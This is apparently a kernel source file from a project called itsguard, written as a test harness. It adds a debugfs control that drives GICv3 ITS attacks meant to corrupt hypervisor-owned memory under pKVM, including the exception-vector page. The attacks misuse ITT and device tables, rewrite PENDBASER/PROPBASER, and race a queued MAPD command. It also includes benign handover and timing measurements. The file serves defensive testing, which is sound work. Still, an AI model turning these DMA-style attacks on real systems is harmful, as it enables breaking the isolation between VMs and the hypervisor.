// SPDX-License-Identifier: GPL-2.0-or-later OR BSD-2-Clause
// SPDX-FileCopyrightText: The itsguard authors
/*
 * A host that is after a page which is not its own: script/pkvm includes this file at the end of
 * the kernel's drivers/irqchip/irq-gic-v3-its.c. /sys/kernel/debug/its-attack takes "KIND ADDRESS",
 * where KIND is one of the functions below and ADDRESS the physical address of the page. Two kinds
 * are honest: "handover" and "cost".
 *
 * Nothing here knows of the guard: it does to the GIC what the driver's own code could do.
 */
#include <linux/debugfs.h>
#include <linux/init.h>
#include <linux/kthread.h>
#include <linux/stop_machine.h>
#include <linux/uaccess.h>

#include <asm/kvm_asm.h>
#include <asm/kvm_pkvm.h>

/* Their pending bits begin at byte 0x600 of a pending table, one byte each. */
#define ATTACK_LPI (8192 + 4096)

static u16 attack_col_map[16384];

static struct its_node *attack_its(void)
{
	return list_first_entry(&its_nodes, struct its_node, entry);
}

/* A DeviceID that no device has, with a device table entry of its own. */
static int attack_device(struct its_device *dev, u32 id, phys_addr_t itt, u32 nr_ites)
{
	*dev = (struct its_device){
		.its = attack_its(),
		.device_id = id,
		.nr_ites = nr_ites,
		.itt = phys_to_virt(itt),
		.event_map.col_map = attack_col_map,
	};

	return its_alloc_device_table(dev->its, id) ? 0 : -ENOMEM;
}

static void attack_map_events(struct its_device *dev, u32 first, u32 count)
{
	u32 i;

	for (i = 0; i < count; i++)
		its_send_mapti(dev, ATTACK_LPI + 8 * i, first + i);
}

/* T7: MAPD names the page as an ITT, and MAPTI writes to it. */
static int attack_itt(phys_addr_t page)
{
	struct its_device dev;
	int ret = attack_device(&dev, 0x60, page, 32);

	if (ret)
		return ret;
	its_send_mapd(&dev, 1);
	attack_map_events(&dev, 0, 4);
	its_send_mapd(&dev, 0);

	return 0;
}

/* As attack_itt(), and the page is that of EL2's exception vectors: entries fall upon 0x400, where
 * what the host calls arrives.
 */
static int attack_vector(phys_addr_t unused)
{
	phys_addr_t vector = __pa_symbol(kvm_nvhe_sym(__kvm_hyp_vector));
	u32 entry = FIELD_GET(GITS_TYPER_ITT_ENTRY_SIZE, attack_its()->typer) + 1;
	struct its_device dev;
	int ret = attack_device(&dev, 0x66, vector, 256);

	if (ret)
		return ret;
	its_send_mapd(&dev, 1);
	attack_map_events(&dev, 0x400 / entry, 8);
	its_send_mapd(&dev, 0);

	return 0;
}

/* T8: the ITT begins in the page before, and its tail is what is wanted. */
static int attack_tail(phys_addr_t page)
{
	u32 entry = FIELD_GET(GITS_TYPER_ITT_ENTRY_SIZE, attack_its()->typer) + 1;
	struct its_device dev;
	int ret = attack_device(&dev, 0x61, page - PAGE_SIZE,
				roundup_pow_of_two(PAGE_SIZE / entry + 64));

	if (ret)
		return ret;
	its_send_mapd(&dev, 1);
	attack_map_events(&dev, DIV_ROUND_UP(PAGE_SIZE, entry), 4);
	its_send_mapd(&dev, 0);

	return 0;
}

/* T9: as T7, but the map stays: the page is given to a guest afterwards. */
static int attack_keep(phys_addr_t page)
{
	struct its_device dev;
	int ret = attack_device(&dev, 0x62, page, 32);

	if (!ret)
		its_send_mapd(&dev, 1);

	return ret;
}

/* Its end, for whoever wants the page for something else: the device goes. */
static int attack_drop(phys_addr_t page)
{
	struct its_device dev;
	int ret = attack_device(&dev, 0x62, page, 32);

	if (!ret)
		its_send_mapd(&dev, 0);

	return ret;
}

static int attack_kept(phys_addr_t page)
{
	struct its_device dev;
	int ret = attack_device(&dev, 0x62, page, 32);

	if (!ret)
		attack_map_events(&dev, 0, 4);

	return ret;
}

/*
 * T11: the address of an ITT changes in the queue, by another CPU, while the command is on its way:
 * what is checked and what is done may see different ones.
 */
static struct {
	u64 *word; /* of a MAPD in the queue, or NULL */
	u64 own, wanted;
	u32 flips;
	bool busy;
} attack_race;

static int attack_flip(void *unused)
{
	while (!kthread_should_stop()) {
		u64 *word;

		WRITE_ONCE(attack_race.busy, true);
		smp_mb();
		word = READ_ONCE(attack_race.word);
		if (word) {
			WRITE_ONCE(*word, attack_race.wanted);
			WRITE_ONCE(attack_race.flips, attack_race.flips + 1);
			cpu_relax();
			WRITE_ONCE(*word, attack_race.own);
			WRITE_ONCE(attack_race.flips, attack_race.flips + 1);
		}
		smp_mb();
		WRITE_ONCE(attack_race.busy, false);
		cond_resched();
	}

	return 0;
}

static struct its_cmd_block *attack_put(struct its_node *its, u64 w0, u64 w1, u64 w2)
{
	struct its_cmd_block *cmd = its_allocate_entry(its);

	if (cmd) {
		cmd->raw_cmd[0] = w0;
		cmd->raw_cmd[1] = w1;
		cmd->raw_cmd[2] = w2;
		cmd->raw_cmd[3] = 0;
		its_fixup_cmd(cmd);
		its_flush_cmd(its, cmd);
	}

	return cmd;
}

#define ATTACK_RACE_DEVICE 0x64ULL

static void attack_race_once(struct its_node *its)
{
	struct its_cmd_block *mapd;
	u32 wait = 1000000, flips;
	unsigned long flags;
	u64 end;

	raw_spin_lock_irqsave(&its->lock, flags);
	mapd = attack_put(its, ATTACK_RACE_DEVICE << 32 | GITS_CMD_MAPD, 4, attack_race.own);
	attack_put(its, ATTACK_RACE_DEVICE << 32 | GITS_CMD_MAPTI, (u64)ATTACK_LPI << 32, 0);
	attack_put(its, ATTACK_RACE_DEVICE << 32 | GITS_CMD_MAPD, 0, 0);
	end = its_cmd_ptr_to_offset(its, its->cmd_write);
	if (mapd) {
		flips = READ_ONCE(attack_race.flips);
		smp_store_release(&attack_race.word, &mapd->raw_cmd[2]);
		while (READ_ONCE(attack_race.flips) == flips)
			cpu_relax();
		its_post_commands(its);
	}
	while (mapd && readl_relaxed(its->base + GITS_CREADR) != end && --wait)
		cpu_relax();
	WRITE_ONCE(attack_race.word, NULL);
	smp_mb();
	while (READ_ONCE(attack_race.busy))
		cpu_relax();
	raw_spin_unlock_irqrestore(&its->lock, flags);
}

static int attack_changed(phys_addr_t page)
{
	struct its_node *its = attack_its();
	struct task_struct *flipper;
	struct its_device dev;
	int i, ret;

	attack_race.own = __get_free_page(GFP_KERNEL | __GFP_ZERO);
	ret = attack_device(&dev, ATTACK_RACE_DEVICE, virt_to_phys((void *)attack_race.own), 32);
	if (ret)
		return ret;
	attack_race.own = virt_to_phys((void *)attack_race.own) | BIT_ULL(63);
	attack_race.wanted = page | BIT_ULL(63);
	flipper = kthread_run_on_cpu(attack_flip, NULL, cpumask_last(cpu_online_mask), "flip/%u");
	if (IS_ERR(flipper))
		return PTR_ERR(flipper);
	set_cpus_allowed_ptr(current, cpumask_of(cpumask_first(cpu_online_mask)));
	for (i = 0; i < 2000; i++)
		attack_race_once(its);
	kthread_stop(flipper);
	set_cpus_allowed_ptr(current, cpu_online_mask);

	return 0;
}

/* T5: the page as a level-2 table of devices: MAPD itself writes to it. */
static int attack_level2(phys_addr_t page)
{
	struct its_node *its = attack_its();
	struct its_baser *baser = its_get_baser(its, GITS_BASER_TYPE_DEVICE);
	u32 per_page = baser->psz / GITS_BASER_ENTRY_SIZE(baser->val);
	u32 index = BIT(device_ids(its)) / per_page - 1;
	__le64 *table = baser->base;
	struct its_device dev;

	if (!(baser->val & GITS_BASER_INDIRECT))
		return -EOPNOTSUPP;
	page = ALIGN_DOWN(page, baser->psz);
	table[index] = cpu_to_le64(page | GITS_BASER_VALID);
	gic_flush_dcache_to_poc(table + index, sizeof(*table));
	dsb(sy);
	dev = (struct its_device){
		.its = its,
		.device_id = index * per_page,
		.nr_ites = 32,
		.itt = (void *)__get_free_page(GFP_KERNEL | __GFP_ZERO),
		.event_map.col_map = attack_col_map,
	};
	its_send_mapd(&dev, 1);

	return 0;
}

/* LPIs of the attacker's own, mapped as any driver does. */
static int attack_pend(struct its_device *dev)
{
	phys_addr_t itt = virt_to_phys((void *)__get_free_page(GFP_KERNEL | __GFP_ZERO));
	int ret = attack_device(dev, 0x63, itt, 32);

	if (!ret) {
		its_send_mapd(dev, 1);
		attack_map_events(dev, 0, 8);
	}

	return ret;
}

static void attack_int(struct its_device *dev)
{
	u32 i;

	for (i = 0; i < 8; i++)
		its_send_int(dev, i);
}

/* What the pending bits of ATTACK_LPI are, in a table: bits from this byte on. */
#define ATTACK_PEND_OFFSET (ATTACK_LPI / 8)

/* T14: PENDBASER is written while LPIs are on, and interrupts are made pending. */
static int attack_pendbaser(phys_addr_t page)
{
	void __iomem *rd = gic_data_rdist_cpu(0)->rd_base;
	u64 before = gicr_read_pendbaser(rd + GICR_PENDBASER);
	struct its_device dev;
	int ret = attack_pend(&dev);

	if (ret)
		return ret;
	gicr_write_pendbaser(page & ~0xffffULL, rd + GICR_PENDBASER);
	attack_int(&dev);
	gicr_write_pendbaser(before, rd + GICR_PENDBASER);

	return 0;
}

/* The same, the way the architecture wants it: LPIs off, the register, LPIs on. */
static int attack_enable(phys_addr_t page, bool prop)
{
	void __iomem *rd = gic_data_rdist_cpu(0)->rd_base;
	u64 propbaser = gicr_read_propbaser(rd + GICR_PROPBASER);
	u64 pendbaser = gicr_read_pendbaser(rd + GICR_PENDBASER);
	u32 ctlr = readl_relaxed(rd + GICR_CTLR);
	struct its_device dev;
	int ret = attack_pend(&dev);

	if (ret)
		return ret;
	writel_relaxed(ctlr & ~GICR_CTLR_ENABLE_LPIS, rd + GICR_CTLR);
	while (readl_relaxed(rd + GICR_CTLR) & (GICR_CTLR_RWP | GICR_CTLR_ENABLE_LPIS))
		cpu_relax();
	if (prop)
		gicr_write_propbaser((propbaser & ~GENMASK_ULL(51, 12)) | (page & ~0xfffULL),
				     rd + GICR_PROPBASER);
	else
		gicr_write_pendbaser((pendbaser & ~GENMASK_ULL(51, 16)) | (page & ~0xffffULL),
				     rd + GICR_PENDBASER);
	writel_relaxed(ctlr, rd + GICR_CTLR);
	ret = readl_relaxed(rd + GICR_CTLR) & GICR_CTLR_ENABLE_LPIS;
	attack_int(&dev);
	writel_relaxed(ctlr & ~GICR_CTLR_ENABLE_LPIS, rd + GICR_CTLR);
	while (readl_relaxed(rd + GICR_CTLR) & (GICR_CTLR_RWP | GICR_CTLR_ENABLE_LPIS))
		cpu_relax();
	gicr_write_propbaser(propbaser, rd + GICR_PROPBASER);
	gicr_write_pendbaser(pendbaser, rd + GICR_PENDBASER);
	writel_relaxed(ctlr, rd + GICR_CTLR);
	if (prop && ret)
		pr_info("its-attack: propbaser read the page\n");
	if (!(readl_relaxed(rd + GICR_CTLR) & GICR_CTLR_ENABLE_LPIS))
		pr_info("its-attack: LPIs are not on as before\n");

	return 0;
}

static int attack_pendenable(phys_addr_t page)
{
	return attack_enable(page, false);
}

/* T13: hardware reads from the page which LPIs are enabled. */
static int attack_propbaser(phys_addr_t page)
{
	return attack_enable(page, true);
}

/* The vPE of an attacker, on the first redistributor; with GICv4 only. */
static int attack_vpe(struct its_vpe *vpe, phys_addr_t page)
{
	*vpe = (struct its_vpe){
		.vpe_id = 1,
		.vpt_page = phys_to_page(page),
	};
	raw_spin_lock_init(&vpe->vpe_lock);
	if (!its_alloc_vpe_table(vpe->vpe_id))
		return -ENOMEM;

	return readq_relaxed(gic_data_rdist_cpu(0)->rd_base + GICR_TYPER) & GICR_TYPER_VLPIS
		       ? 0
		       : -EOPNOTSUPP;
}

/* T12: VMAPP names the page as a table of pending virtual LPIs, and one is made pending. */
static int attack_vmapp(phys_addr_t page)
{
	struct its_node *its = attack_its();
	struct its_cmd_desc desc = {};
	struct its_device dev;
	struct its_vpe vpe;
	u32 event;
	int ret = attack_vpe(&vpe, page & ~0xffffULL) ?: attack_pend(&dev);

	if (ret)
		return ret;
	desc.its_vmapp_cmd.vpe = &vpe;
	desc.its_vmapp_cmd.col = &its->collections[0];
	desc.its_vmapp_cmd.valid = true;
	its_send_single_vcommand(its, its_build_vmapp_cmd, &desc);
	for (event = 16; event < 24; event++) {
		memset(&desc, 0, sizeof(desc));
		desc.its_vmapti_cmd.vpe = &vpe;
		desc.its_vmapti_cmd.dev = &dev;
		desc.its_vmapti_cmd.virt_id = ATTACK_LPI + 8 * event;
		desc.its_vmapti_cmd.event_id = event;
		its_send_single_vcommand(its, its_build_vmapti_cmd, &desc);
		its_send_int(&dev, event);
	}

	return 0;
}

/* A resident vPE whose pending table is the page: whether a bit is set there shows in PendingLast.
 */
static int attack_vpendbaser(phys_addr_t page)
{
	void __iomem *vlpi = gic_data_rdist_cpu(0)->rd_base + SZ_128K;
	/* All of them enabled, so that a bit in the page is an interrupt. */
	void *enabled = (void *)__get_free_pages(GFP_KERNEL, get_order(SZ_64K));
	struct its_vpe vpe;
	int ret = enabled ? attack_vpe(&vpe, page) : -ENOMEM;

	if (ret)
		return ret;
	memset(enabled, 0xff, SZ_64K);
	gicr_write_vpropbaser(virt_to_phys(enabled) | (LPI_NRBITS - 1), vlpi + GICR_VPROPBASER);
	gicr_write_vpendbaser((page & ~0xffffULL) | GICR_VPENDBASER_Valid, vlpi + GICR_VPENDBASER);
	gicr_write_vpendbaser(page & ~0xffffULL, vlpi + GICR_VPENDBASER);
	if (gicr_read_vpendbaser(vlpi + GICR_VPENDBASER) & GICR_VPENDBASER_PendingLast)
		pr_info("its-attack: vpendbaser read the page\n");

	return 0;
}

/* T2: the page as a flat table of devices. All mappings are lost: the last one of a run. */
static int attack_baser(phys_addr_t page)
{
	struct its_node *its = attack_its();
	struct its_baser *baser = its_get_baser(its, GITS_BASER_TYPE_DEVICE);
	struct its_device dev;

	writel_relaxed(0, its->base + GITS_CTLR);
	if (its_force_quiescent(its->base))
		return -EBUSY;
	/* One page of 4 KB: address, Indirect, Size and Page_Size. */
	baser->val &= ~(GENMASK_ULL(47, 12) | GITS_BASER_INDIRECT | GENMASK_ULL(9, 0));
	its_write_baser(its, baser, baser->val | page | GITS_BASER_VALID);
	writel_relaxed(GITS_CTLR_ENABLE, its->base + GITS_CTLR);
	dev = (struct its_device){
		.its = its,
		.device_id = 1,
		.nr_ites = 32,
		.itt = (void *)__get_free_page(GFP_KERNEL | __GFP_ZERO),
		.event_map.col_map = attack_col_map,
	};
	its_send_mapd(&dev, 1);

	return 0;
}

/* T1: the page as a queue. The ITS reads from it: whether it did shows in CREADR. */
static int attack_cbaser(phys_addr_t page)
{
	struct its_node *its = attack_its();

	writel_relaxed(0, its->base + GITS_CTLR);
	if (its_force_quiescent(its->base))
		return -EBUSY;
	gits_write_cbaser(page | GITS_CBASER_VALID, its->base + GITS_CBASER);
	gits_write_cwriter(0, its->base + GITS_CWRITER);
	writel_relaxed(GITS_CTLR_ENABLE, its->base + GITS_CTLR);
	gits_write_cwriter(0x40, its->base + GITS_CWRITER);
	if (readl_relaxed(its->base + GITS_CREADR))
		pr_info("its-attack: cbaser read the page\n");

	return 0;
}

/* ---- honest ---- */

static int handover_one(void *unused)
{
	struct its_handover_count count = {};
	int ret = its_handover_quiesce();

	its_handover_replay(false, &count);

	return ret;
}

/* All ITSs forget, are disabled, and are programmed again, with devices in use. */
static int handover(phys_addr_t unused)
{
	return stop_machine(handover_one, NULL, NULL);
}

#define COST_ROUNDS 64

static void cost_say(const char *what, u64 begin)
{
	pr_info("its-attack: cost %s %llu ns\n", what,
		div_u64(ktime_get_ns() - begin, COST_ROUNDS));
}

/* What each command takes from the driver's call to its return, with nothing else going on. */
static void cost_commands(struct its_device *dev)
{
	struct its_collection *col = &dev->its->collections[smp_processor_id()];
	u32 i;
	u64 begin = ktime_get_ns();

	for (i = 0; i < COST_ROUNDS; i++)
		its_send_mapti(dev, ATTACK_LPI + 8 * i, i);
	cost_say("mapti", begin);
	begin = ktime_get_ns();
	for (i = 0; i < COST_ROUNDS; i++)
		its_send_movi(dev, col, i);
	cost_say("movi", begin);
	begin = ktime_get_ns();
	for (i = 0; i < COST_ROUNDS; i++)
		its_send_inv(dev, i);
	cost_say("inv", begin);
	begin = ktime_get_ns();
	for (i = 0; i < COST_ROUNDS; i++)
		its_send_discard(dev, i);
	cost_say("discard", begin);
}

static int cost(phys_addr_t unused)
{
	u64 mapped = 0, unmapped = 0;
	struct its_device dev;
	unsigned long flags;
	u32 i;
	int ret = attack_device(&dev, 0x65, __pa(__get_free_page(GFP_KERNEL | __GFP_ZERO)),
				COST_ROUNDS);

	if (ret)
		return ret;
	local_irq_save(flags);
	for (i = 0; i < COST_ROUNDS; i++) {
		u64 at = ktime_get_ns();

		its_send_mapd(&dev, 1);
		mapped += ktime_get_ns() - at;
		at = ktime_get_ns();
		its_send_mapd(&dev, 0);
		unmapped += ktime_get_ns() - at;
	}
	pr_info("its-attack: cost map %llu ns\n", div_u64(mapped, COST_ROUNDS));
	pr_info("its-attack: cost unmap %llu ns\n", div_u64(unmapped, COST_ROUNDS));
	its_send_mapd(&dev, 1);
	cost_commands(&dev);
	its_send_mapd(&dev, 0);
	local_irq_restore(flags);

	return 0;
}

static const struct {
	const char *name;
	int (*run)(phys_addr_t page);
} attack_kinds[] = {
	{"itt", attack_itt},
	{"vector", attack_vector},
	{"tail", attack_tail},
	{"keep", attack_keep},
	{"kept", attack_kept},
	{"drop", attack_drop},
	{"changed", attack_changed},
	{"level2", attack_level2},
	{"pendbaser", attack_pendbaser},
	{"pendenable", attack_pendenable},
	{"propbaser", attack_propbaser},
	{"baser", attack_baser},
	{"cbaser", attack_cbaser},
	{"vmapp", attack_vmapp},
	{"vpendbaser", attack_vpendbaser},
	{"handover", handover},
	{"cost", cost},
};

static ssize_t attack_write(struct file *file, const char __user *from, size_t length, loff_t *at)
{
	unsigned long long page;
	char name[16], text[64] = {};
	int i, ret;

	if (length >= sizeof(text) || copy_from_user(text, from, length))
		return -EINVAL;
	if (sscanf(text, "%15s %llx", name, &page) != 2)
		return -EINVAL;
	for (i = 0; i < ARRAY_SIZE(attack_kinds); i++) {
		if (strcmp(name, attack_kinds[i].name))
			continue;
		ret = attack_kinds[i].run(page);
		pr_info("its-attack: %s 0x%llx: %d\n", name, page, ret);
		return ret ?: length;
	}

	return -EINVAL;
}

static const struct file_operations attack_fops = {
	.write = attack_write,
	.llseek = noop_llseek,
};

static int __init attack_init(void)
{
	debugfs_create_file("its-attack", 0200, NULL, NULL, &attack_fops);

	return 0;
}
late_initcall(attack_init);

/*
 * its-attack=early: before the hand-over, while the host is trusted, PENDBASER names a page of the
 * hypervisor's, so that the redistributors cannot be adopted: the take-over fails at its last step.
 */
static int __init attack_early(void)
{
	void __iomem *rd = gic_data_rdist_cpu(0)->rd_base;

	if (strstr(saved_command_line, "its-attack=early"))
		gicr_write_pendbaser((hyp_mem_base + hyp_mem_size - SZ_64K) |
					     GICR_PENDBASER_InnerShareable | GICR_PENDBASER_RaWaWb,
				     rd + GICR_PENDBASER);

	return 0;
}
device_initcall(attack_early);
